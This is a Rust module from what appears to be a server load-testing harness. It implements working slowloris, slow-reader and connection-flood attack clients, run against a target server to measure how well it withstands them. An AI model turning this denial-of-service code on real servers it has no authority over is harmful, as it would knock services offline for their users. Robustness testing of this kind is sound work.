//! The attack clients the load generator does not have: slow readers (a small `SO_RCVBUF`, a
//! few KiB read per tick) and slowloris (a request head one byte at a time), each one thread
//! over a fixed set of non-blocking sockets that stops by itself at a deadline; and the start
//! and end of a phase's whole attack (floods and large files from the load generator).

use super::*;

/// Puts the calling thread (and the threads it creates after) under SCHED_IDLE when `idle`.
pub(super) fn lower_priority(idle: bool) {
    if idle {
        // Best effort: an attacker left at normal priority shows in the victim generator's
        // run-queue column.
        let _ = harness::sched_idle_this_thread();
    }
}

/// Raises the soft open-files limit to the hard one; returns the soft limit after.
pub(super) fn raise_nofile() -> Option<u64> {
    let mut r = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: getrlimit/setrlimit read or write only the local struct passed.
    unsafe {
        if libc::getrlimit(libc::RLIMIT_NOFILE, &mut r) != 0 {
            return None;
        }
        if r.rlim_cur < r.rlim_max {
            let want = libc::rlimit {
                rlim_cur: r.rlim_max,
                rlim_max: r.rlim_max,
            };
            if libc::setrlimit(libc::RLIMIT_NOFILE, &want) == 0 {
                r.rlim_cur = r.rlim_max;
            }
        }
    }
    Some(r.rlim_cur)
}

use harness::pin_to_load_cpu;

/// Counters of a slow-reader thread.
#[derive(Default)]
pub(super) struct SlowStats {
    pub(super) bytes: u64,
    pub(super) done: u64,
    pub(super) reconnects: u64,
}

pub(super) fn slow_connect(addr: SocketAddr, request: &[u8]) -> Option<TcpStream> {
    let s = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).ok()?;
    // Before connect, so the window advertised from the start is small.
    s.set_recv_buffer_size(SLOW_RCVBUF_BYTES).ok()?;
    s.connect_timeout(&addr.into(), CONNECT_TIMEOUT).ok()?;
    let mut t: TcpStream = s.into();
    t.write_all(request).ok()?;
    t.set_nonblocking(true).ok()?;
    Some(t)
}

/// Slow readers: `n` connections, each asking for the large file (`Connection: close`) and
/// reading [`SLOW_READ_BYTES`] per tick until the server closes, then asking again. Stops at
/// `until`. Returns its counters and the seconds it ran measured from `measure_from`.
pub(super) fn slow_readers(addr: SocketAddr, n: usize, until: Instant, idle: bool) -> SlowStats {
    pin_to_load_cpu();
    lower_priority(idle);
    let req = format!("GET /{LARGE} HTTP/1.1\r\nHost: adversary.test\r\nConnection: close\r\n\r\n");
    let mut st = SlowStats::default();
    let mut conns: Vec<Option<TcpStream>> = (0..n).map(|_| None).collect();
    let mut buf = vec![0u8; SLOW_READ_BYTES];
    while Instant::now() < until {
        for c in conns.iter_mut() {
            let Some(s) = c else {
                *c = slow_connect(addr, req.as_bytes());
                st.reconnects += 1;
                continue;
            };
            match s.read(&mut buf) {
                Ok(0) => {
                    st.done += 1;
                    *c = None;
                }
                Ok(k) => st.bytes += k as u64,
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                Err(_) => *c = None,
            }
        }
        std::thread::sleep(SLOW_TICK);
    }
    // The first connects are not reconnects.
    st.reconnects = st.reconnects.saturating_sub(n as u64);
    st
}

/// Counters of a slowloris thread.
#[derive(Default)]
pub(super) struct LorisStats {
    pub(super) open_at_end: usize,
    pub(super) closed_by_server: u64,
    pub(super) bytes_sent: u64,
}

/// Slowloris: `n` connections each sending a request head one byte every
/// [`SLOWLORIS_BYTE_EVERY`] (start times spread over one interval); a connection the server
/// closes is opened again. Stops at `until`.
pub(super) fn slowloris(addr: SocketAddr, n: usize, until: Instant, idle: bool) -> LorisStats {
    pin_to_load_cpu();
    lower_priority(idle);
    // A head that never ends: request line, Host, then header bytes forever.
    let head: Vec<u8> = b"GET / HTTP/1.1\r\nHost: adversary.test\r\nX-a: "
        .iter()
        .copied()
        .chain(std::iter::repeat_n(b'a', 4096))
        .collect();
    let mut st = LorisStats::default();
    let t0 = Instant::now();
    // (stream, bytes of `head` sent, next send time)
    let mut conns: Vec<(Option<TcpStream>, usize, Instant)> = (0..n)
        .map(|i| {
            (
                None,
                0,
                t0 + SLOWLORIS_BYTE_EVERY.mul_f64(i as f64 / n.max(1) as f64),
            )
        })
        .collect();
    let mut sink = [0u8; 512];
    while Instant::now() < until {
        let now = Instant::now();
        for (s, sent, next) in conns.iter_mut() {
            if *next > now {
                continue;
            }
            *next = now + SLOWLORIS_BYTE_EVERY;
            if s.is_none() {
                *s = TcpStream::connect_timeout(&addr, CONNECT_TIMEOUT)
                    .ok()
                    .filter(|t| t.set_nonblocking(true).is_ok());
                *sent = 0;
            }
            let Some(t) = s else { continue };
            // The server's answer (a 408) or its close ends this connection.
            let closed = match t.read(&mut sink) {
                Ok(_) => true,
                Err(e) => e.kind() != std::io::ErrorKind::WouldBlock,
            };
            let closed = closed
                || match t.write(&head[*sent % head.len()..*sent % head.len() + 1]) {
                    Ok(k) => {
                        *sent += k;
                        st.bytes_sent += k as u64;
                        false
                    }
                    Err(e) => e.kind() != std::io::ErrorKind::WouldBlock,
                };
            if closed {
                st.closed_by_server += 1;
                *s = None;
            }
        }
        std::thread::sleep(SLOW_TICK);
    }
    st.open_at_end = conns.iter().filter(|c| c.0.is_some()).count();
    st
}

/// The running attack of one phase.
pub(super) struct Attack {
    pub(super) load: Option<harness::LoadHandle>,
    pub(super) slow: Option<JoinHandle<SlowStats>>,
    pub(super) loris: Option<JoinHandle<LorisStats>>,
    /// Seconds the slow-reader thread runs (for its rate).
    pub(super) slow_seconds: f64,
}

pub(super) fn start_attack(
    a: &AdversaryArgs,
    kinds: &[&str],
    addr: &str,
    total: Duration,
) -> Result<Attack, String> {
    let sa: SocketAddr = addr.parse().map_err(|e| format!("{addr}: {e}"))?;
    let until = Instant::now() + total;
    let mut tenants = Vec::new();
    if kinds.contains(&"many-conns") {
        tenants.push(format!(
            "flood:adversary.test:{}:path=/{SMALL}",
            a.flood_conns
        ));
    }
    if kinds.contains(&"large-files") {
        tenants.push(format!("large:adversary.test:{LARGE_CONNS}:path=/{LARGE}"));
    }
    let load = if tenants.is_empty() {
        None
    } else {
        let mut extra = vec!["--timeout-ms".to_string(), "20000".into()];
        if a.attack_kernel_stamps {
            extra.push("--kernel-stamps".into());
        }
        for t in tenants {
            extra.push("--tenant".into());
            extra.push(t);
        }
        // Measured over the victim's window: after the ramp and the victim's warmup.
        let warm = RAMP.as_secs_f64() + WARMUP_S;
        let args = harness::load_args(addr, a.common.seconds, warm, &extra)?;
        let idle = a.adversary_idle;
        Some(std::thread::spawn(move || {
            lower_priority(idle);
            omnistage_load::run(&args)
        }))
    };
    let idle = a.adversary_idle;
    let slow = kinds.contains(&"slow-readers").then(|| {
        let n = a.slow_readers;
        std::thread::spawn(move || slow_readers(sa, n, until, idle))
    });
    let loris = kinds.contains(&"slowloris").then(|| {
        let n = a.slowloris_conns;
        std::thread::spawn(move || slowloris(sa, n, until, idle))
    });
    Ok(Attack {
        load,
        slow,
        loris,
        slow_seconds: total.as_secs_f64(),
    })
}

pub(super) fn finish_attack(at: Attack) -> Result<Adversary, String> {
    let mut adv = Adversary::default();
    if let Some(h) = at.load {
        let r = harness::join_load(h)?;
        for t in &r.tenants {
            match t.name.as_str() {
                "flood" => {
                    adv.flood_req_per_s = t.req_per_s;
                    adv.flood_errors = harness::errors(t);
                    adv.flood_p50_ms = t.p50_ms;
                    adv.flood_p99_ms = t.p99_ms;
                    adv.flood_kernel_p50_ms = t.kernel_p50_ms;
                    adv.flood_kernel_p99_ms = t.kernel_p99_ms;
                }
                "large" => {
                    adv.large_bytes_per_s = t.bytes_per_s;
                    adv.large_errors = harness::errors(t);
                }
                _ => {}
            }
        }
    }
    if let Some(h) = at.slow {
        let s = h.join().map_err(|_| "slow readers panicked")?;
        adv.slow_reader_bytes_per_s = s.bytes as f64 / at.slow_seconds;
        adv.slow_reader_responses_done = s.done;
        adv.slow_reader_reconnects = s.reconnects;
    }
    if let Some(h) = at.loris {
        let s = h.join().map_err(|_| "slowloris panicked")?;
        adv.slowloris_open_at_end = s.open_at_end;
        adv.slowloris_closed_by_server = s.closed_by_server;
        adv.slowloris_bytes_sent = s.bytes_sent;
    }
    Ok(adv)
}
